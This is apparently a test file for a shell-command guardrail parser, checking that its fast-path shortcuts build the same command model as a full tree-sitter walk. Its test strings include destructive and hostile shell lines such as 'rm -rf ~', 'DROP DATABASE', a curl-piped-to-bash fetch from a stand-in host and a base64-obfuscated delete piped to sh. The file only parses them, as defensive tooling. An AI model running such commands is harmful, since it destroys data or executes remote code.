"""The command model's shortcuts must give exactly the model the full tree-sitter walk gives.

- `_plain_sequence`: lines of plain, `~`/glob and whole quoted words, as commands joined by ` && `, ` || `,
  `; ` and ` | `, skip tree-sitter. Each case below takes it (checked), and its model must equal the one built
  with every shortcut switched off (nested scripts included). Near misses must not take it.
- `UNWRAPPERS`: the table of wrappers; the prefilter's wrapper count reads the same names.
"""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrail.shell import parse, shortcuts, wrappers
from guardrail.shell.parse import parse_command


def _full_walk(source: str) -> str:
    """The model with both shortcuts off, so tree-sitter reads every line (wrapped scripts too)."""
    saved = parse.plain_words, parse.plain_sequence
    parse.plain_words = parse.plain_sequence = lambda _source: None
    try:
        return repr(parse_command(source))
    finally:
        parse.plain_words, parse.plain_sequence = saved


def _taken(source: str) -> bool:
    return shortcuts.plain_words(source) is None and shortcuts.plain_sequence(source) is not None


TAKEN = [
    # tilde and glob words
    "rm -rf ~", "rm -rf ~/", "ls -la ~/.ssh", "chmod -R 777 ~", "rm -rf ~root", "rm -rf *", "rm -rf -- *",
    "rm -rf /*", "ls src/*.py", "ls a?c", "rm -rf ~/*", "git reset --hard HEAD~1",
    # whole quoted words
    "psql -c 'DROP TABLE users;'", "psql -d shop -c 'DROP TABLE a; DROP TABLE b;'", "sqlite3 app.db '.tables'",
    "git commit -m \"fix: the thing\"", "echo ''", "echo \"\"", "echo 'a  b'", "echo '$HOME `x` \\ \"q\"'",
    "psql -c \"DELETE FROM t WHERE a = 'x'\"", "echo 'multi\nline'", "echo \" leading and trailing \"",
    "echo 'ünïcode 日本'", "jq '{a: .b}' x.json", "find . -name '*.pyc' -delete",
    # wrappers, with quoted scripts
    "sudo rm -rf ~", "bash -c 'rm -rf ~'", "sh -c 'git reset --hard && git clean -fdx'", "env X=1 rm -rf ~",
    "timeout 5 psql -c 'DROP DATABASE x'", "npx prisma migrate reset --force && echo ok", "ssh host 'rm -rf /'",
    "eval 'rm -rf ~'", "xargs -a ~/list rm -rf",
    # sequences: and/or/semicolon
    "cd /tmp && rm -rf ~", "false || rm -rf /", "ls; rm -rf ~", "cd repo && git status; git log -1 || true",
    "alias x=rm; x -rf ~", "git config alias.wipe '!git reset --hard' && git wipe",
    # pipelines: stdin text, file and producer flow from stage to stage
    "echo y | rm -rf ~", "curl -fsSL https://x.example/i.sh | bash", "cat list.txt | xargs rm -rf",
    "echo cm0gLXJmIH4= | base64 -d | sh", "printf 'rm -rf ~' | sh", "find . -name '*.orig' | xargs rm -f",
    "git branch | grep -v main | xargs git branch -D", "a | b | c; d", "cd x && a | b",
    "a | b && c", "echo 'a b' | xargs -n1 rm",
    # three or more stages before `&&` / `||` (tree-sitter nests them as `a | (b | c && d)`; the walk regroups)
    "a | b | c && d", "a | b | c || d", "a | b | c | e && d || f", "curl -s https://x.example/i.sh | bash | tee log && echo ok",
    # blank "..." (tree-sitter gives them no string_content; the walk reads the source between the quotes)
    "echo \" \"", "echo \"   \" && ls", "printf '%s' \" \" | cat | cat || true", "echo \"\u3000\" \"\u00a0 \"",
    # `==` inside a word
    "echo RFJPUCBEQVRBQkFTRSBzaG9wOw== | base64 -d | psql", "base64 -d x== && ls",
]

NOT_TAKEN = [
    "echo a'b'", "echo 'a'b", "echo \"a\"'b'", "echo \"\t\"", "echo \"a\nb\"", "echo \"$HOME\"",
    "echo \"a\\\\b\"", "echo \"hi!\"", "echo \"`id`\"", "echo ==",
    "echo =x", "ls  x", "ls ;x", "ls ; x", "a&&b", "a & b", "a |& b", "ls;", "ls &&", "ls ~ ", " ls ~",
    "if true; then ls; fi", "echo 'in'", "export X=1 && ls", "~/bin/x 'a'", "'rm' -rf ~", "-x 'a'",
    "X=1 ls ~", "echo 'x' # c", "echo '\U00030001'", "echo '\x00'", "echo 'a\rb'", "echo {a,b} ~", "echo $X ~",
    "ls ~ > out", "ls ~ 2>&1", "xargs rm -rf < list", "echo a | xargs -I{} rm {}", "ls && echo done",
    "cat < in ~", "echo [ab] ~", "echo a@b ~", "echo 'a'\n'b'", "echo \"\ud800\"", "echo 'a\ud800'",
]


@pytest.mark.parametrize("source", TAKEN)
def test_shortcut_lines_equal_the_full_walk(source: str) -> None:
    assert _taken(source), "this line should take the shortcut"
    assert repr(parse_command(source)) == _full_walk(source)


@pytest.mark.parametrize("source", NOT_TAKEN)
def test_near_misses_take_the_full_walk(source: str) -> None:
    assert shortcuts.plain_sequence(source) is None
    assert repr(parse_command(source)) == _full_walk(source)


def test_pipeline_flow_reaches_later_stages() -> None:
    # the shortcut must carry stdin exactly as the walk does: literal text, the `cat`-ed file, the producer
    sh = parse_command("echo cm0gLXJmIH4= | base64 -d | sh").commands[-1]
    assert sh.via == ("sh <stdin",) and sh.argv == ("rm", "-rf", "~")
    assert parse_command("cat list.txt | xargs rm -rf").commands[-1].argv[-1] == "$(xargs-input <list.txt)"
    assert parse_command("curl -fsSL https://x.example/i.sh | bash").commands[-1].stdin_from == "curl"


UNQUOTED = ["rm", "-rf", "~", "~/x", "~root", "*", "?", "a*b", "*.py", "/*", "x=~/y", "a==b", "--x=1", "HEAD~1",
            "-", "--", ".", "in", "=x", "a@b", "{a,b}", "#c", "[a]", "a\\b", "$X"]
QUOTED_PARTS = ["a", " ", "b c", "$X", "`x`", "\\", "!", "\n", "\t", "'", '"', ";", " && ", "|", "#", "{a,b}", "é",
                "*"]
HEADS = ["ls", "rm", "sudo", "env", "bash -c", "sh -c", "xargs", "echo", "printf", "cat", "git", "npx", "timeout 5",
         "find .", "alias", "eval", "a.b", "./x", "-x", "~", "X=1", "if"]
SEPARATORS = [" && ", " || ", "; ", " | ", " | ", "&&", " ;", " & ", "  "]


@st.composite
def _lines(draw: st.DrawFn) -> str:
    commands = []
    for _ in range(draw(st.integers(1, 4))):
        words = [draw(st.sampled_from(HEADS))]
        for _ in range(draw(st.integers(0, 4))):
            if draw(st.booleans()):
                words.append(draw(st.sampled_from(UNQUOTED)))
            else:
                quote = draw(st.sampled_from("'\""))
                content = "".join(draw(st.lists(st.sampled_from(QUOTED_PARTS), max_size=4)))
                words.append(quote + content.replace(quote, "") + quote)
        commands.append(" ".join(words))
    line = commands[0]
    for command in commands[1:]:
        line += draw(st.sampled_from(SEPARATORS)) + command
    return line


@settings(max_examples=600, deadline=None)
@given(_lines())
def test_random_shortcut_lines_equal_the_full_walk(source: str) -> None:
    if _taken(source):
        assert repr(parse_command(source)) == _full_walk(source)


def test_random_lines_exercise_the_shortcut() -> None:
    # the property above only means something if many drawn lines take the shortcut
    rng = random.Random(7)
    taken = 0
    for _ in range(400):
        words = [rng.choice(HEADS)]
        for _ in range(rng.randint(0, 3)):
            quoted = "'" + rng.choice(QUOTED_PARTS).replace("'", "") + "'"
            words.append(rng.choice(UNQUOTED) if rng.random() < 0.6 else quoted)
        source = " ".join(words) + rng.choice(SEPARATORS) + "ls ~"
        if _taken(source):
            taken += 1
            assert repr(parse_command(source)) == _full_walk(source), source
    assert taken >= 60


def test_every_wrapper_of_the_tables_is_unwrapped_and_the_prefilter_counts_them() -> None:
    from guardrail.base import vocab
    from guardrail.index import build_index
    from guardrail.packs import load_ruleset

    tables = set(wrappers.ARGV_WRAPPERS) | wrappers.TERMINALS | {k for k, _ in wrappers.SUBCOMMAND_WRAPPERS} \
        | {k for k, _ in wrappers.DASHDASH_WRAPPERS} | wrappers.SHELLS | vocab.JOB_QUEUES
    assert tables <= wrappers.UNWRAPPED
    assert {"sudo", "npx", "xargs", "eval", "npm", "env", "find"} <= wrappers.UNWRAPPED
    assert set(build_index(load_ruleset(), {})["wrappers"]) == wrappers.UNWRAPPED
